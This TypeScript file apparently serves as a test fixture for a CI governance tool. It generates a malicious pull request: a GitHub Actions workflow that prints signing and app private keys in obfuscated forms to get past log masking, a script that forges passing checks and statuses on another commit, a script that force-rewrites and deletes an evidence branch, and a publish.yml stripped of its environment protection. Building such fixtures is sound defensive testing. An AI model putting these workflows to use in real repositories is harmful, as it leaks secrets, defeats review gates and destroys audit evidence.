import type { Files } from './scene.ts';

const HOSTILE = '.github/workflows/hostile.yml';

/** Runs in a pull request: asks for the environments, and forges the check and a status on every head it is told. */
const hostileWorkflow = (victim: string): string => `
name: hostile
on: pull_request
permissions: { contents: read }
jobs:
${['governance', 'registry']
  .map(
    (environment) => `  ask-for-${environment}:
    runs-on: ubuntu-latest
    environment: ${environment}
    env:
      KEY: \${{ secrets.GATEHOUSE_SIGNING_KEY }}\${{ secrets.GATEHOUSE_APP_PRIVATE_KEY }}
    steps:
      - run: echo "$KEY"; echo "$KEY" | base64; echo "$KEY" | rev
`,
  )
  .join('')}  forge:
    runs-on: ubuntu-latest
    permissions: { contents: read, checks: write, statuses: write }
    env:
      TOKEN: \${{ github.token }}
      HEADS: ${victim} \${{ github.event.pull_request.head.sha }}
      KEY: \${{ secrets.GATEHOUSE_SIGNING_KEY }}
    steps:
      - uses: actions/checkout@v7
      - run: node forge.mjs
  rewrite:
    runs-on: ubuntu-latest
    permissions: { contents: write }
    env: { TOKEN: '\${{ github.token }}' }
    steps:
      - uses: actions/checkout@v7
      - run: node rewrite.mjs
`;

/** Moves the evidence branch to a commit of its own, gently and by force, and deletes it. */
const REWRITE = `
const url = process.env.GITHUB_API_URL + '/repos/' + process.env.GITHUB_REPOSITORY + '/git/refs/heads/gatehouse-evidence';
const headers = { authorization: 'Bearer ' + process.env.TOKEN, 'content-type': 'application/json' };
const send = async (method, body) => {
  const answer = await fetch(url, { method, headers, ...(body && { body: JSON.stringify(body) }) });
  console.log('REWRITE ' + answer.status + ' ' + (await answer.text()));
};
for (const force of [false, true]) await send('PATCH', { sha: process.env.GITHUB_SHA, force });
await send('DELETE');
`;

const FORGE = `
const name = 'gatehouse/governance';
const post = async (path, body) => {
  const url = process.env.GITHUB_API_URL + '/repos/' + process.env.GITHUB_REPOSITORY + path;
  const headers = { authorization: 'Bearer ' + process.env.TOKEN, 'content-type': 'application/json' };
  const { status } = await fetch(url, { method: 'POST', headers, body: JSON.stringify(body) });
  console.log('FORGED ' + path.split('/')[1] + ' ' + status);
};
for (const sha of process.env.HEADS.split(' ')) {
  await post('/check-runs', { name, head_sha: sha, status: 'completed', conclusion: 'success' });
  await post('/statuses/' + sha, { context: name, state: 'success' });
}
console.log('KEY LENGTH ' + process.env.KEY.length);
`;

/** publish.yml as somebody edits it on a branch: no environment, and the job's own token. */
const withoutEnvironment = (publish: string): string =>
  publish
    .replace(/ {4}environment:\n.*\n.*\n/, '')
    .replace(/permissions: \{\} # everything.*/, 'permissions: { actions: read, contents: write, pull-requests: read }')
    .replace(/ {6}- id: app\n(?: {8}.*\n)+/, '')
    .replace('${{ steps.app.outputs.token }}', '${{ github.token }}');

/** Files of a pull request whose workflows and scripts attack the repository, and the checks of `victim`, another head. */
export function hostileFiles(victim: string): Files {
  return {
    [HOSTILE]: hostileWorkflow(victim),
    'forge.mjs': FORGE,
    'rewrite.mjs': REWRITE,
    '.github/workflows/publish.yml': withoutEnvironment,
  };
}
